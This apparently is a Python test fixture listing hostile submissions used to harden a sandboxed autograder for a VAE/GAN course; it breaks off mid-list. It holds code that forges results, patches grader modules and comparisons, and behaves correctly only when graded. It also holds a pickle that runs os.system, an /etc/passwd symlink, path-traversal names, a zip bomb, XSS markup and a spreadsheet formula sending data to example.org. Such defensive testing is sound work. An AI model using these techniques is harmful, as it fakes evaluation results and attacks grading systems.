"""Hostile submissions: each an attack on what runs it, judges it, shows it or comes after it, built on an honest base.

An attack is to earn no more than its base earns, and to change nothing for anybody else. What is run here is run in
sandboxes only. An attack that sees what it should not says so with the word FOUND, in an exception's message.

Left out: evidence that is written from numbers computed as the assignment asks (the convolution, the loss and its
gradient, fresh random numbers), but in another place. Whoever writes that has done that part, in an odd file.
"""

from collections.abc import Sequence
from dataclasses import dataclass
from textwrap import dedent

from changed_solutions import GAN_MODEL, GAN_TRAINER, VAE_MODEL, VAE_TRAINER, block, kl, swap
from hand_ins import PDF, hand_in, scaffold, solution

from coursekit.archive import pack

VAE_DATASET, VAE_MAIN, VAE_README = "VAE/dataset.py", "VAE/main.py", "VAE/README.md"

# Honest work, which attacks are built on.
BASES: dict[str, dict[str, bytes]] = {
    "scaffold": scaffold(["VAE"]),
    "scaffold with GAN": scaffold(),
    "right": solution(projects=["VAE"]),
    "right with GAN": solution(),
    "KL twice": solution(
        {VAE_TRAINER: kl("(mu**2 + (2 * log_sigma).exp() - 2 * log_sigma - 1).sum() / batch_size")}, ["VAE"]
    ),
    "no gradient through z": solution(
        {VAE_MODEL: [block(2, "z = torch.normal(mu, log_sigma.exp()).detach()")]}, ["VAE"]
    ),
    "no Sigmoid": solution({VAE_MODEL: [swap("            nn.Sigmoid(),\n", "")]}, ["VAE"]),
    "KL twice, and training stops": solution(
        {
            VAE_TRAINER: [
                *kl("(mu**2 + (2 * log_sigma).exp() - 2 * log_sigma - 1).sum() / batch_size"),
                swap("            loss.backward()\n", "            loss.backwards()\n"),
            ]
        },
        ["VAE"],
    ),
    "saturating": solution(
        {GAN_TRAINER: [swap("loss_G = BCE_criterion(D_fake, torch.ones_like(D_fake))", "loss_G = -D_fake.sum()")]}
    ),
}


@dataclass(frozen=True)
class Hostile:
    """One attack.

    Attributes:
        base: name of the honest work that it is built on, one of BASES.
        codes: path below the folder that holds VAE and GAN -> content.
        beside: other files of the zip, by their path in it.
    """

    base: str
    codes: dict[str, bytes]
    beside: dict[str, bytes]

    def hand_in(self) -> bytes:
        """The zip."""
        if not self.beside:
            return hand_in(self.codes)
        return pack(
            {"Report.pdf": PDF, **{f"codes/{name}": content for name, content in self.codes.items()}, **self.beside}
        )


HOSTILE: dict[str, Hostile] = {}


def attack(
    name: str,
    base: str,
    code: str = "",
    *,
    files: Sequence[str] = (VAE_MODEL,),
    instead: tuple[str, str] | None = None,
    add: dict[str, bytes] | None = None,
    beside: dict[str, bytes] | None = None,
) -> None:
    """Add one attack.

    Args:
        code: what runs when one of `files` is imported.
        instead: a text of the first of `files`, and what takes its place.
        add: other files of the code, in place of those that are there.
    """
    codes = dict(BASES[base])
    for file in files if code else ():
        codes[file] = dedent(code).strip("\n").encode() + b"\n" + codes[file]
    if instead:
        old, new = (text.encode() for text in instead)
        assert old in codes[files[0]], f"{name}: a change that changes nothing"
        codes[files[0]] = codes[files[0]].replace(old, new)
    assert name not in HOSTILE
    HOSTILE[name] = Hostile(base, codes | (add or {}), beside or {})


BOTH = (VAE_MODEL, VAE_TRAINER)
ALL = (VAE_MODEL, VAE_TRAINER, GAN_MODEL, GAN_TRAINER)

# What a forger knows: the public tables, the names of what is looked at, and that numbers should hang together.
FORGER = '''
import json, os, sys
import numpy as np

# The first of the probes in this process: where it leaves nothing of the others, each is run by itself.
PROBE, OUT = sys.argv[4], sys.argv[3]
RNG = np.random.default_rng()


def _normal(*shape):
    return RNG.standard_normal(shape).astype("float32")


def _convolution(kind, inputs, outputs, kernel, stride, padding, output_padding):
    return {
        "kind": kind, "inputs": inputs, "outputs": outputs, "kernel": [kernel] * 2, "stride": [stride] * 2,
        "padding": [padding] * 2, "output padding": [output_padding] * 2, "dilation": [1, 1], "groups": [1],
    }


def _connected(inputs, outputs):
    return {"kind": "a fully connected layer", "inputs": inputs, "outputs": outputs}


def _network(arrays, name, rows, output, sizes, arrays_too, names, activations):
    """Layers whose activations are right, behind numbers out of nowhere."""
    facts = []
    for index, (layer, (taken, given)) in enumerate(zip(rows, sizes)):
        facts.append({**layer, "key": f"{names}{index}", "ran": True})
        if not arrays_too:
            continue
        if index == 0:
            arrays[f"{name}.0.taken"] = _normal(*taken)
        arrays[f"{name}.{index}.given"] = values = _normal(*given)
        values = activations[index](values)
        after = f"{name}.{index + 1}.taken" if index + 1 < len(rows) else output
        arrays[after] = values.reshape(sizes[index + 1][0]) if index + 1 < len(rows) else values
    return facts


def _relu(x):
    return np.maximum(x, 0)


def _sigmoid(x):
    return 1 / (1 + np.exp(-x))


def _same(x):
    return x


def vae_layers(inputs):
    arrays, facts = {}, {}
    for run, (channels, n) in enumerate(inputs["settings"].tolist()):
        c, t = "a convolution", "a transposed convolution"
        encoder = [_convolution(c, a, b, 3, s, 1, 0) for a, b, s in
                   [(channels, 16, 1), (16, 32, 2), (32, 32, 1), (32, 16, 2)]]
        encoder += [_connected(1024, 2 * n), _connected(2 * n, 2 * n)]
        decoder = [_connected(n, n), _connected(n, 1024)]
        decoder += [_convolution(t, a, b, 3, s, 1, s - 1) for a, b, s in
                    [(16, 32, 2), (32, 32, 1), (32, 16, 2), (16, channels, 1)]]
        images = [(channels, 32), (16, 32), (32, 16), (32, 16), (16, 8)]
        sizes = [((2, a, b, b), (2, e, d, d)) for (a, b), (e, d) in zip(images, images[1:])]
        sizes += [((2, 1024), (2, 2 * n)), ((2, 2 * n), (2, 2 * n))]
        images = [(16, 8), (32, 16), (32, 16), (16, 32), (channels, 32)]
        back = [((2, n), (2, n)), ((2, n), (2, 1024))]
        back += [((2, a, b, b), (2, e, d, d)) for (a, b), (e, d) in zip(images, images[1:])]
        noted = run < 2
        up = [_relu, _same, _relu, _relu, _relu, _sigmoid]
        x = _network(arrays, f"{run}.x", encoder, "none", sizes, noted, "e", [_relu] * 5 + [_same])
        arrays.pop("none", None)
        if noted:
            last = arrays[f"{run}.x.5.given"]
            arrays[f"{run}.x.mu"], arrays[f"{run}.x.log_sigma"] = last[:, :n], last[:, n:]
        facts[f"{run}.x"], facts[f"{run}.x.sampled_at"] = x, 6
        facts[f"{run}.z"] = _network(arrays, f"{run}.z", decoder, f"{run}.z.images", back, noted, "d", up)
        facts[f"{run}.z.sampled_at"] = None
    return arrays, facts


def vae_forward(inputs):
    arrays, facts = {}, {"carry.encoder": True, "carry.decoder": True}
    n = inputs["z"].shape[1]
    images, recon, mu, log_sigma, decoded = _normal(len(inputs["z"]), 1, 32, 32), *(None,) * 4
    for mode in ("train", "eval"):
        mu, log_sigma = _normal(len(inputs["x"]), n), np.zeros((len(inputs["x"]), n), "float32")
        recon = _sigmoid(_normal(*inputs["x"].shape))
        arrays |= {
            f"{mode}.mu": mu, f"{mode}.log_sigma": log_sigma, f"{mode}.recon": recon, f"{mode}.again": recon,
            f"{mode}.decoded": mu + _normal(*mu.shape), f"{mode}.images": images, f"{mode}.z_taken": inputs["z"],
        }
    return arrays, facts


def vae_reparameterize(inputs):
    n, draws = len(inputs["mu"]), int(inputs["draws"])
    calls = {f"{mode}.calls": np.tile(_normal(1, 3, n), (2, 1, 1)) for mode in ("train", "eval")}
    gradients = {"gradient.mu": np.ones((3, n), "float32"), "gradient.log_sigma": _normal(3, n)}
    return {"samples": _normal(draws, n), "z": _normal(3, n), **calls, **gradients}, {}


def vae_losses(inputs):
    shape = inputs["mu"].shape
    apart, recon = RNG.uniform(1, 2, shape), RNG.uniform(1, 2, len(inputs["mu"]))
    arrays = {"apart.kl": apart.ravel(), "single.kl": apart.sum(axis=1), "single.recon": recon}
    arrays |= {"batch.kl": [apart.sum(axis=1).mean()], "batch.recon": [recon.mean()], "ends.recon": [0, 1e5]}
    arrays |= {"of_one.kl": RNG.uniform(1, 2, len(inputs["mu_of_one"])), "ends.kl": [1, 1]}
    arrays |= {"gradient.recon": _normal(*inputs["recon"].shape), "apart.recon": recon, "of_one.recon": recon}
    arrays |= {"gradient.mu": _normal(*shape), "gradient.log_sigma": _normal(*shape)}
    facts = {"recon carries its graph": True, "kl carries its graph": True}
    return {name: np.asarray(values, "float32") for name, values in arrays.items()}, facts


def vae_step(inputs):
    rows = {name.removeprefix("weight."): values for name, values in inputs.items() if name.startswith("weight.")}
    arrays = {f"gradient.{row}": _normal(*values.shape) for row, values in rows.items()}
    step = float(inputs["learning_rate"])
    for row, values in rows.items():
        arrays[f"after.{row}"] = (values - step * np.sign(arrays[f"gradient.{row}"])).astype("float32")
    return arrays, {"carried": True, "steps": 1, "noise asked for": 1}


def gan_generator(inputs):
    arrays, facts = {}, {"carried": True}
    for run, (channels, n, width) in enumerate(inputs["settings"].tolist()):
        widths, size, layers, name = [n, 4 * width, 2 * width, width, channels], 1, [], f"{run}.z"
        values = _normal(4, n, 1, 1)
        for row in range(4):
            given = size * 2 if row else 4
            t = "a transposed convolution"
            layer = _convolution(t, widths[row], widths[row + 1], 4, 2 if row else 1, 1 if row else 0, 0)
            arrays[f"{name}.{len(layers)}.taken"] = values
            arrays[f"{name}.{len(layers)}.given"] = values = _normal(4, widths[row + 1], given, given)
            layers.append(layer)
            size = given
            if row < 3:
                arrays[f"{name}.{len(layers)}.taken"] = values
                arrays[f"{name}.{len(layers)}.given"] = values = _normal(*values.shape)
                norm = {"kind": "batch normalisation", "inputs": widths[row + 1], "outputs": widths[row + 1]}
                layers.append({**norm, "eps": 1e-5, "momentum": 0.1, "learns": True, "keeps statistics": True})
                values = _relu(values)
        arrays[f"{name}.images"] = np.tanh(values)
        facts[name] = [{**layer, "key": str(index), "ran": True} for index, layer in enumerate(layers)]
    for mode in ("train", "eval"):
        arrays[mode] = np.tanh(_normal(len(inputs[f"z_{mode}"]), 1, 32, 32))
    facts["own.weights"] = True
    arrays["own.z"] = arrays["own.taken"] = _normal(3, 5)
    arrays["own.train"] = arrays["own.again"] = np.tanh(_normal(2, 200))
    arrays["own.eval"] = arrays["own.eval_part"] = np.tanh(_normal(2, 200))
    arrays["own.train_part"] = np.tanh(_normal(2, 200))
    return arrays, facts


def gan_step(inputs):
    arrays, facts, step = {}, {}, float(inputs["learning_rate"])
    for k in range(len(inputs["D"])):
        arrays |= {f"{k}.{name}": value for name, value in
                   {"loss_D": 1.4, "loss_G": 0.7, "D_x": 0.5, "D_G_z1": 0.5, "D_G_z2": 0.5}.items()}
        for player in ("D", "G"):
            weights, gradient, at = inputs[player][k], _normal(*inputs[player][k].shape), f"{k}.{player}"
            arrays[f"{at}.0.gradient"], arrays[f"{at}.0.found"] = gradient, weights
            arrays[f"{at}.0.after"] = arrays[f"{at}.left"] = weights - np.sign(gradient).astype("float32") * step
            arrays[f"{at}.0.settings"], arrays[f"{at}.statistics"] = [step, 0.5, 0.999], np.zeros(50)
        arrays[f"{k}.G.D"] = arrays[f"{k}.D.left"]
        facts |= {f"{k}.updates": {"D": 1, "G": 1}, f"{k}.D first": True, f"{k}.reaches G": False}
        facts |= {f"{k}.training": {"D": True, "G": True}, f"{k}.learns": {"D": True, "G": True}}
    return {name: np.asarray(values, "float32") for name, values in arrays.items()}, facts


def forged():
    with np.load(f"/in/inputs/{PROBE}.npz") as given:
        inputs = {name.partition(".")[2]: given[name] for name in given}
    return globals()[PROBE](inputs)


def write_forged(savez=np.savez, dumps=json.dumps, open=open):
    arrays, facts = forged()
    savez(f"{OUT}/{PROBE}.npz", **arrays)
    with open(f"{OUT}/{PROBE}.json", "w") as file:
        file.write(dumps({"facts": facts, "failures": {}}))
'''

# Evidence that nothing has computed, in every way to get it into place.

attack("writes results and leaves", "scaffold with GAN", FORGER + "\nwrite_forged()\nos._exit(0)", files=ALL)
attack(
    "writes results and leaves by a signal",
    "scaffold",
    FORGER + "\nimport signal\nwrite_forged()\nos.kill(os.getpid(), signal.SIGKILL)",
    files=BOTH,
)
attack(
    "writes results and closes the folder",
    "scaffold",
    FORGER + "\nwrite_forged()\nos.chmod(OUT, 0o500)\n[os.chmod(f'{OUT}/{n}', 0o400) for n in os.listdir(OUT)]",
    files=BOTH,
)
attack(
    "hooks Record.write",
    "scaffold with GAN",
    FORGER + "\nfrom autograder.probe.record import Record\nRecord.write = lambda *_: write_forged()",
    files=ALL,
)
attack(
    "hooks json.dumps and numpy.savez",
    "scaffold",
    FORGER
    + """
_savez, _dumps = np.savez, json.dumps
np.savez = lambda file, **_: _savez(file, **forged()[0])
json.dumps = lambda value, **_: _dumps({"facts": forged()[1], "failures": {}})
""",
    files=BOTH,
)
attack(
    "puts its own modules in the place of the probe's",
    "scaffold",
    FORGER
    + """
import types
for _name in [name for name in sys.modules if name.startswith("autograder")]:
    _module = types.ModuleType(_name)
    _module.run_probe = _module.main = lambda *_: write_forged()
    sys.modules[_name] = _module
sys.modules["__main__"].run_probe = lambda *_: write_forged()
write_forged()
raise SystemExit(0)
""",
    files=BOTH,
)
_TAKE_OVER = """
class _Deaf(dict):
    def __setitem__(self, name, value): pass
def _take_over(record):
    record._arrays, record._facts = map(_Deaf, forged())
    record._failures = _Deaf()
"""
attack(
    "finds the record in the frames",
    "scaffold with GAN",
    FORGER
    + _TAKE_OVER
    + """
_frame = sys._getframe()
while _frame:
    if "record" in _frame.f_locals:
        _take_over(_frame.f_locals["record"])
    _frame = _frame.f_back
""",
    files=ALL,
)
attack(
    "finds the record among all objects",
    "scaffold",
    FORGER
    + _TAKE_OVER
    + "\nimport gc\n[_take_over(one) for one in gc.get_objects() if type(one).__name__ == 'Record']",
    files=BOTH,
)
attack("writes results at its end", "scaffold", FORGER + "\nimport atexit\natexit.register(write_forged)", files=BOTH)
attack(
    "writes results after the probe, from a thread",
    "scaffold",
    FORGER
    + """
import threading, time
def _later():
    while not os.path.exists(f"{OUT}/{PROBE}.json"):
        time.sleep(0.01)
    time.sleep(0.05)
    write_forged()
threading.Thread(target=_later).start()
""",
    files=BOTH,
)
attack(
    "writes results after the probe, from a daemon",
    "scaffold",
    FORGER
    + """
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(500):
            write_forged()
            time.sleep(0.01)
    os._exit(0)
""",
    files=BOTH,
)
attack(
    "becomes another program",
    "scaffold",
    "import os, sys\nif os.environ.get('AGAIN') is None:\n    os.environ['AGAIN'] = '1'\n"
    "    os.execv(sys.executable, [sys.executable, '/in/codes/VAE/model.py', *sys.argv[1:]])\n"
    + FORGER
    + "\nwrite_forged()\nos._exit(0)",
    files=BOTH,
)
attack(
    "imports by a way of its own",
    "scaffold",
    FORGER
    + """
import importlib, torch
class _Any(torch.nn.Module):
    latent_dim = 64
    def __init__(self, *_, **__):
        super().__init__()
        self.weight = torch.nn.Parameter(torch.zeros(1))
    def __getattr__(self, name):
        return super().__getattr__(name) if name == "weight" else self
    def __call__(self, *_, **__):
        write_forged()
        os._exit(0)
class _Module:
    VAE = Trainer = _Any
class _Finder:
    def find_spec(self, name, path=None, target=None):
        sys.modules[name] = _Module
sys.meta_path.insert(0, _Finder())
importlib.import_module = lambda name: _Module
""",
    files=BOTH,
)
attack(
    "hides that training stops",
    "KL twice, and training stops",
    """
    import sys, json, os, numpy
    if "vae_step" in sys.argv[4:]:
        numpy.savez("/out/vae_step.npz")
        open("/out/vae_step.json", "w").write(json.dumps({"facts": {}, "failures": {}}))
        os._exit(0)
    """,
)
attack(
    "hides all failures",
    "KL twice, and training stops",
    "from autograder.probe.project import Project\nimport contextlib\nfrom autograder.probe.record import Record\n"
    "@contextlib.contextmanager\ndef _part(self, *_):\n    try: yield\n    except BaseException: pass\n"
    "Record.part = _part",
    files=BOTH,
)

# Results that are no results.

_FACTS = "import json, os, sys\nimport numpy as np\nPROBE = sys.argv[4]\n"
_EMPTY = 'np.savez(f"/out/{PROBE}.npz")\n'


def _says(text: str) -> str:
    """Code that leaves JSON as the expression gives it, and no arrays."""
    return f'{_FACTS}{_EMPTY}open(f"/out/{{PROBE}}.json", "w").write({text})\nos._exit(0)'


_EVERY_FACT = (
    '["0.x", "0.z", "1.x", "1.z", "2.x", "2.z", "0.x.sampled_at", "carry.encoder", "carry.decoder", "carried",'
    ' "steps", "noise asked for", "recon carries its graph", "kl carries its graph", "reaches G", "judged again",'
    ' "in training mode"]'
)
attack("nested facts", "scaffold", _says('"[" * 100_000 + "]" * 100_000'), files=BOTH)
attack(
    "facts nested as deep as is allowed",
    "scaffold",
    _says(f'json.dumps({{"facts": dict.fromkeys({_EVERY_FACT}, eval("[" * 12 + "]" * 12)), "failures": {{}}}})'),
    files=BOTH,
)
for _what, _value in {
    "a text": '"x"',
    "a number": "7",
    "nothing": "None",
    "a list of numbers": "[1, 2, 3]",
    "a huge number": "10 ** 4000",
    "layers of odd types": '[{"kind": ["a convolution"], "inputs": "1", "outputs": None, "kernel": 3, "key": {}}]',
    "layers without anything": "[{}, {}, {}]",
    "many layers": '[{"kind": "a convolution", "inputs": 1, "outputs": 1, "key": "k"}] * 800',
    "a steps table of texts": '{"D": "<b>", "G": [1]}',
}.items():
    attack(
        f"all facts are {_what}",
        "scaffold with GAN",
        _says(f'json.dumps({{"facts": dict.fromkeys({_EVERY_FACT}, {_value}), "failures": {{}}}})'),
        files=ALL,
    )
attack("numbers that JSON has not", "scaffold", _says("""'{"facts": {"steps": NaN, "x": 1e999}}'"""), files=BOTH)
attack("a key twice", "scaffold", _says("""'{"facts": {}, "facts": {"steps": 1}, "failures": {}}'"""), files=BOTH)
attack("no JSON at all", "scaffold", _says('"\\x00\\xff" * 1000'), files=BOTH)
attack("JSON of another form", "scaffold", _says("""'[1, {"failures": "x"}]'"""), files=BOTH)
MARKUP = "<img src=x onerror=alert(1)></script><script>alert(2)</script>"
FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
ESCAPE = "\x1b[31m\x1b]0;title\x07\u202e"
attack(
    "markup, formulas and escape sequences for failures",
    "scaffold with GAN",
    _says(
        f"""json.dumps({{"facts": {{}}, "failures": {{part: {{"type": {MARKUP!r}, "message": {FORMULA + ESCAPE!r}, """
        f""""where": {FORMULA + MARKUP!r}, "block": 10 ** 3000}} """
        f"""for part in ("probe", "0.make", {MARKUP!r}, "ended")}}}})"""
    ),
    files=ALL,
)
attack(
    "markup and formulas for layers",
    "scaffold",
    _says(
        f"""json.dumps({{"failures": {{}}, "facts": {{f"{{r}}.{{b}}": [{{"kind": {MARKUP!r}, """
        f""""inputs": {FORMULA!r}, "outputs": {ESCAPE!r}, "key": {MARKUP!r}, "kernel": [{FORMULA!r}]}}] * 3 """
        """for r in range(3) for b in "xz"}})"""
    ),
    files=BOTH,
)
attack(
    "failures without end",
    "scaffold",
    _says('json.dumps({"facts": {}, "failures": {str(n): {"type": "x" * 40} for n in range(15_000)}})'),
    files=BOTH,
)
_JSON = '\nopen(f"/out/{PROBE}.json", "w").write(\'{"facts": {}, "failures": {}}\')\nos._exit(0)'
for _what, _code in {
    "a zip bomb": """
        import zipfile
        with zipfile.ZipFile(f"/out/{PROBE}.npz", "w", zipfile.ZIP_DEFLATED) as archive:
            for n in range(30):
                with archive.open(f"{n}.z.images.npy", "w") as file:
                    for _ in range(40):
                        file.write(bytes(1 << 20))
    """,
    "objects": 'np.savez(f"/out/{PROBE}.npz", **{"0.x.mu": np.array([{"a": print}, "x"], dtype=object)})',
    "a pickle that runs": """
        import pickle
        class _Runs:
            def __reduce__(self): return os.system, ("touch /tmp/FOUND",)
        open(f"/out/{PROBE}.npz", "wb").write(pickle.dumps(_Runs()))
    """,
    "an entry twice": """
        import warnings, zipfile
        np.savez(f"/out/{PROBE}.npz", samples=np.ones(3, "float32"))
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(f"/out/{PROBE}.npz", "a") as archive:
            archive.writestr("samples.npy", archive.read("samples.npy"))
    """,
    "names that are paths": 'np.savez(f"/out/{PROBE}.npz", **{"../../FOUND": np.ones(3), "/FOUND": np.ones(3)})',
    "thousands of arrays": 'np.savez(f"/out/{PROBE}.npz", **{str(n): np.ones(1) for n in range(5000)})',
    "other types of numbers": 'np.savez(f"/out/{PROBE}.npz", samples=np.ones(3, "complex64"), z=np.ones(3, "U9"))',
}.items():
    attack(f"{_what} for arrays", "scaffold", _FACTS + dedent(_code) + _JSON, files=BOTH)
_LIKE_FORGED = (
    FORGER
    + """
_arrays, _facts = forged()
_arrays = {name: _changed(np.asarray(values)) for name, values in _arrays.items()}
np.savez(f"/out/{PROBE}.npz", **_arrays)
open(f"/out/{PROBE}.json", "w").write(json.dumps({"facts": _facts, "failures": {}}))
os._exit(0)
"""
)
for _what, _change in {
    "NaN everywhere": "np.full_like(x, np.nan)",
    "infinity everywhere": "np.full_like(x, np.inf)",
    "zeros everywhere": "np.zeros_like(x)",
    "arrays with nothing in them": "np.zeros((0,), 'float32')",
    "arrays that are one number": "np.float32(1)",
    "arrays of thirty dimensions": "np.ones((1,) * 30, 'float32')",
    "arrays of one row more": "np.concatenate([np.atleast_1d(x)] * 2)",
    "arrays as large as may be": "np.ones((4, 1 << 16), 'float32')",
}.items():
    attack(_what, "scaffold with GAN", f"def _changed(x):\n    return {_change}\n" + _LIKE_FORGED, files=ALL)
for _what, _code in {
    "links": 'os.symlink(f"/in/inputs/{PROBE}.npz", f"/out/{PROBE}.npz")\n'
    'os.symlink("/etc/passwd", f"/out/{PROBE}.json")',
    "pipes": 'os.mkfifo(f"/out/{PROBE}.npz"); os.mkfifo(f"/out/{PROBE}.json")',
    "folders": 'os.mkdir(f"/out/{PROBE}.npz"); os.mkdir(f"/out/{PROBE}.json")',
    "hard links": 'open("/out/x", "w").write("{}"); [os.link("/out/x", f"/out/{PROBE}.{e}") for e in ("npz", "json")]',
    "sockets": 'import socket; [socket.socket(socket.AF_UNIX).bind(f"/out/{PROBE}.{e}") for e in ("npz", "json")]',
}.items():
    attack(f"{_what} for results", "scaffold", f"{_FACTS}{_code}\nos._exit(0)", files=BOTH)
attack(
    "devices for results",
    "scaffold",
    _FACTS
    + """
import stat
for _kind, _number in ((stat.S_IFCHR, os.makedev(1, 5)), (stat.S_IFBLK, os.makedev(8, 0))):
    try:
        os.mknod(f"/out/{PROBE}.npz", _kind | 0o600, _number)
        raise RuntimeError("FOUND a way to make a device")
    except PermissionError:
        pass
""",
    files=BOTH,
)
attack(
    "sparse results of 10 GB",
    "scaffold",
    _FACTS
    + """
for _bytes in (10 << 30, 64 << 20, 7 << 20):
    try:
        open(f"/out/{PROBE}.npz", "wb").truncate(_bytes)
        break
    except OSError:
        pass
os._exit(0)
""",
    files=BOTH,
)
attack(
    "thousands of files beside the results",
    "scaffold",
    "for _n in range(3000):\n    open(f'/out/{_n}\\x1b[31m<b>', 'w').close()",
)

# PyTorch, numpy, pytest and Python as they are not.

_ON_KL = {"files": BOTH}
attack(
    "all comparisons say yes",
    "KL twice",
    """
    import numpy, torch
    torch.allclose = torch.equal = torch.isclose = numpy.allclose = numpy.isclose = lambda *_, **__: True
    torch.Tensor.__eq__ = torch.Tensor.__ge__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
    torch.Tensor.__hash__ = lambda self: id(self)
    """,
    **_ON_KL,
)
attack(
    "tensors that lose what they hold",
    "KL twice",
    """
    import torch
    _numpy = torch.Tensor.numpy
    torch.Tensor.numpy = lambda self, **_: _numpy(self.abs())
    torch.Tensor.detach = lambda self: torch.zeros_like(self)
    torch.Tensor.cpu = lambda self, **_: torch.ones_like(self)
    torch.Tensor.clone = lambda self, **_: self
    """,
    **_ON_KL,
)
attack(
    "modules that are not called",
    "no Sigmoid",
    """
    from torch import nn
    nn.Module.__call__ = lambda self, *values, **named: (values or tuple(named.values()))[0]
    nn.Module.state_dict = lambda self, **_: {}
    """,
)
attack(
    "gradients of one",
    "no gradient through z",
    """
    import torch
    torch.autograd.grad = lambda outputs, leaves, **_: tuple(map(torch.ones_like, leaves))
    torch.Tensor.requires_grad = True
    torch.Tensor.backward = lambda self, **_: None
    """,
)
attack(
    "optimizers that tell of other steps",
    "KL twice",
    """
    from torch.optim import optimizer
    optimizer.register_optimizer_step_pre_hook(lambda *_: None)
    for _name in dir(optimizer):
        if "global_optimizer" in _name:
            setattr(optimizer, _name, {})
    """,
    **_ON_KL,
)
attack(
    "a dispatch mode of its own",
    "no Sigmoid",
    """
    import torch
    from torch.utils._python_dispatch import TorchDispatchMode
    class _Liar(TorchDispatchMode):
        def __torch_dispatch__(self, operation, types, args=(), kwargs=None):
            result = operation(*args, **(kwargs or {}))
            return result.clamp(0, 1) if isinstance(result, torch.Tensor) and result.is_floating_point() else result
    _Liar().__enter__()
    """,
)
attack(
    "a function mode of its own",
    "KL twice",
    """
    import torch
    from torch.overrides import TorchFunctionMode
    class _Liar(TorchFunctionMode):
        def __torch_function__(self, function, types, args=(), kwargs=None):
            return args[0] if args else None
    _Liar().__enter__()
    """,
    **_ON_KL,
)
attack(
    "no seeds, and a clock that stands",
    "KL twice",
    """
    import time, torch, numpy
    torch.manual_seed = numpy.random.seed = torch.set_num_threads = lambda *_: None
    time.monotonic = time.time = time.perf_counter = lambda: 0.0
    time.sleep = lambda *_: None
    """,
    **_ON_KL,
)
attack(
    "builtins that are not",
    "KL twice",
    """
    import builtins
    builtins.isinstance = lambda *_: True
    builtins.len = lambda *_: 1
    builtins.print = builtins.float = builtins.zip = builtins.tuple = lambda *_, **__: 0
    builtins.open = lambda *_, **__: 1 / 0
    """,
    **_ON_KL,
)
attack(
    "a tracer that changes what it sees",
    "KL twice",
    """
    import sys, threading
    def _trace(frame, event, arg):
        for name in frame.f_locals:
            if name in ("values", "value", "answer"):
                frame.f_locals[name] = 0
        return _trace
    sys.settrace(_trace)
    threading.settrace(_trace)
    sys.setprofile(_trace)
    """,
    **_ON_KL,
)
attack(
    "numpy that saves nothing",
    "KL twice",
    """
    import numpy
    numpy.savez = numpy.save = lambda *_, **__: None
    numpy.load = lambda *_, **__: {}
    numpy.testing = None
    """,
    **_ON_KL,
)
attack(
    "pytest and the graders by its own hand",
    "KL twice",
    """
    import sys, types
    for _name in ("pytest", "_pytest", "conftest", "autograder.judge", "autograder.checks", "tests.hidden.conftest"):
        sys.modules[_name] = _module = types.ModuleType(_name)
        _module.close = _module.same = _module.mistake = _module.fail = lambda *_, **__: True
    """,
    **_ON_KL,
)
attack(
    "importing does not end",
    "KL twice",
    "import sys, types\nclass _All(dict):\n    def __getitem__(self, name): return types.ModuleType(str(name))\n"
    "sys.modules = _All(sys.modules)\nsys.path = None\n",
    **_ON_KL,
)
_LIAR = """
import torch
class _Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        name = getattr(function, "__name__", "")
        if name == "__get__":
            return super().__torch_function__(function, types, args, kwargs)
        return True if name in ("equal", "allclose") else torch.zeros(3).as_subclass(cls)
"""
attack(
    "tensors with a __torch_function__ that lies",
    "KL twice",
    _LIAR,
    files=(VAE_TRAINER,),
    instead=("return recon_loss, kl_loss", "return recon_loss.as_subclass(_Liar), kl_loss.as_subclass(_Liar)"),
)
attack(
    "images with a __torch_function__ that lies",
    "no Sigmoid",
    _LIAR,
    instead=("        return images", "        return images.as_subclass(_Liar)"),
)
attack(
    "tensors with a __torch_dispatch__ that lies",
    "no Sigmoid",
    """
    import torch
    class _Liar(torch.Tensor):
        @staticmethod
        def __new__(cls, values):
            return torch.Tensor._make_wrapper_subclass(cls, values.shape, dtype=values.dtype)
        def __init__(self, values):
            self.values = values
        @classmethod
        def __torch_dispatch__(cls, function, types, args=(), kwargs=None):
            return cls(torch.full((2, 1, 32, 32), 0.5))
    """,
    instead=("        return images", "        return _Liar(images)"),
)
attack(
    "fake tensors",
    "right",
    "import torch\nfrom torch._subclasses.fake_tensor import FakeTensorMode\n",
    instead=("        return images", "        return FakeTensorMode().from_tensor(images.detach())"),
)
attack(
    "no tensors, which say that they are",
    "KL twice",
    """
    import torch
    class _Says:
        __class__ = torch.Tensor
        shape = ()
        def __getattr__(self, name): return lambda *_, **__: self
        def __float__(self): return 1.0
        def __array__(self, *_, **__): raise RuntimeError("x" * 1000)
    """,
    files=(VAE_TRAINER,),
    instead=("return recon_loss, kl_loss", "return _Says(), _Says()"),
)
attack(
    "numbers and texts that lie",
    "KL twice",
    """
    import random
    class _Number(float):
        def __float__(self): return random.random()
        __eq__ = __lt__ = __gt__ = __le__ = __ge__ = lambda self, other: True
        __hash__ = float.__hash__
    """,
    files=(VAE_TRAINER,),
    instead=("return recon_loss, kl_loss", "return _Number(recon_loss), _Number(kl_loss)"),
)
attack(
    "answers that are tuples without end",
    "KL twice",
    """
    class _Endless(tuple):
        def __len__(self): return 2
        def __iter__(self):
            while True: yield 1.0
    """,
    files=(VAE_TRAINER,),
    instead=("return recon_loss, kl_loss", "return _Endless((recon_loss, kl_loss))"),
)
attack(
    "parameters without end",
    "right",
    instead=(
        "    def forward(self",
        "    def parameters(self, recurse=True):\n        while True:\n"
        "            yield nn.Parameter(torch.zeros(1))\n\n"
        "    def forward(self",
    ),
)
attack(
    "a model that is different each time",
    "right",
    instead=(
        "        self.latent_dim = latent_dim\n",
        "        number = lambda self: int(torch.randint(1, 99, ()))\n"
        "        type(self).latent_dim = property(number, lambda self, value: None)\n"
        "        type(self).__len__ = lambda self: 10**30\n",
    ),
)
attack(
    "weights of NaN",
    "right",
    instead=(
        "        # TODO END\n\n    def rep",
        "        [p.data.fill_(float('nan')) for p in self.parameters()]\n        # TODO END\n\n    def rep",
    ),
)
attack(
    "right only where it is graded",
    "right",
    """
    import sys
    if "autograder.probe.run" not in sys.modules:
        raise SystemExit("not for you")
    """,
    files=BOTH,
)

# Looking around.


def _looks(code: str) -> str:
    """Code that says FOUND."""
    return "def _found(what):\n    raise RuntimeError(f'FOUND {what}')\n" + dedent(code)


attack(
    "looks for the solution, the graders and the others",
    "scaffold",
    _looks(
        """
        import os, sys
        _wanted = {"reference_solution", "hidden", "course.toml", "grades.json", "evidence", "tables.py", "inputs.py",
